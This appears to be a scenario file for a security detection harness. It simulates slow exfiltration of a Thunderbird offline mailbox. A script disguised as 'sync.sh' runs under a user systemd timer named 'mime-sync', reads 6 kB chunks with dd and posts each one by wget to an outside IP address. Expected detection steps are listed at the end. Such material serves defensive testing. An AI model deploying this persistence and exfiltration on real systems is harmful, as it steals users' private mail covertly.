title="A user timer takes a piece of Thunderbird's offline store at a time, by dd and wget"
what="A user timer made in buyer's own account runs a script every while: dd takes the next 6 kB of the offline INBOX of Thunderbird, wget posts them. buyer works as usual in between."
user=buyer daemons="cron sshd"
shift_plan="usual:20h drip1:50m drip2:55m drip3:47m drip4:52m end:10m"
setup() {
  local p=/home/buyer/.thunderbird/k3x9.default-release/ImapMail/mx1.example.org
  mkdir -p $p; python3 - > $p/INBOX <<'P'
import base64, os
for i in range(30):
    print(f'From - Mon Nov 16 09:{i:02d}:00 2026\nFrom: partner{i}@example.net\nTo: buyer@example.org\nSubject: Offer {i}\n\n' + base64.encodebytes(os.urandom(700)).decode())
P
  own_file /home/buyer/.local/share/applications/sync.sh 755 <<'P'
#!/bin/sh
n=$(cat ~/.local/state.n 2>/dev/null || echo 0)
dd if=$HOME/.thunderbird/k3x9.default-release/ImapMail/mx1.example.org/INBOX of=/run/user/$(id -u)/piece bs=6k skip=$n count=1 2>/dev/null
wget -q -O /dev/null --post-file=/run/user/$(id -u)/piece "http://203.0.113.81:8080/t?n=$n"
rm -f /run/user/$(id -u)/piece
echo $((n+1)) > ~/.local/state.n
P
  mkdir -p /home/buyer/.config/systemd/user
  printf '[Service]\nType=oneshot\nExecStart=%%h/.local/share/applications/sync.sh\n' > /home/buyer/.config/systemd/user/mime-sync.service
  printf '[Timer]\nOnActiveSec=2\nOnUnitActiveSec=4\nAccuracySec=1\n[Install]\nWantedBy=timers.target\n' > /home/buyer/.config/systemd/user/mime-sync.timer
  chown -R buyer: /home/buyer
}
act() {
  phase usual; small_talk 4
  user_manager buyer
  ssh_as buyer <<'L'
ls; date > todo.txt
systemctl --user start mime-sync.timer
L
  local n; for n in 1 2 3 4; do phase drip$n; small_talk 2; sleep 4; done
  phase end
  small_talk 1
  user_managers_down
}
truth() {
  exec_step timer 'sync.sh' 'a user timer starts a script'
  exec_step piece 'dd if=/home/buyer/.thunderbird/.*skip=0' 'a piece of the store'
  exec_step post 'wget .*--post-file' 'is posted'
  exec_step next 'dd if=/home/buyer/.thunderbird/.*skip=2' 'and the next'
  net_step out 'wget 203.0.113.81:8080' 'outside'
}
